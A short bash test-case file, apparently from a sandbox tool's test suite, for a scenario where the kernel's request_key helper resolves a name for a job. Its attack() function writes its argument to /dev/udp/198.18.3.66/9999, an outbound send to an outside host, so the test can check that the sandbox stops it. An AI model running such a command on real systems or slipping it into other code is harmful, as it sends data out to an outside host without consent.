# shellcheck shell=bash disable=SC2034,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
title='The kernel asked to resolve a name for the job (request_key)'
origin='found here'
reason='silent: the key calls are not there'
forms=run verdict=masked
# Stands for the kernel's helper: without sluice the call is made; with it, it must not be.
attack() { tool send.py keys "$1" | grep -q made && h c bash -c "echo $1 > /dev/udp/198.18.3.66/9999"; }
